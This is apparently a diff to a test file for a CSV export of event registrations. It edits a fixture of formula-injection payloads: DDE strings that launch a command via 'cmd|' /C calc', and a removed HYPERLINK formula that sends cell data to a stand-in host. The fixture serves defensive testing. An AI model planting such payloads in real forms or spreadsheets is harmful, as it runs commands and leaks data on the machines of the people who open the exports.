@@ -56,10 +56,11 @@ def test_staff_export_the_registrations_as_csv(moderator_client, event):
 
 
 # What an attacker types into the public form so that a spreadsheet runs it (CSV injection).
+# Formulas the public form lets through (names refuse web and mail addresses).
 HOSTILE = {
-    "school_name": '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier, juf Renée")',
+    "school_name": '=HYPERLINK("kwaad"&A1,"Klik hier, juf Renée")',
     "school_reference": "-2+3+cmd|' /C calc'!A0",
-    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "contact_name": "+SUM(1+1)*cmd|' /C calc'!A0",
     "phone": "+31 20 123 4567",
 }
 
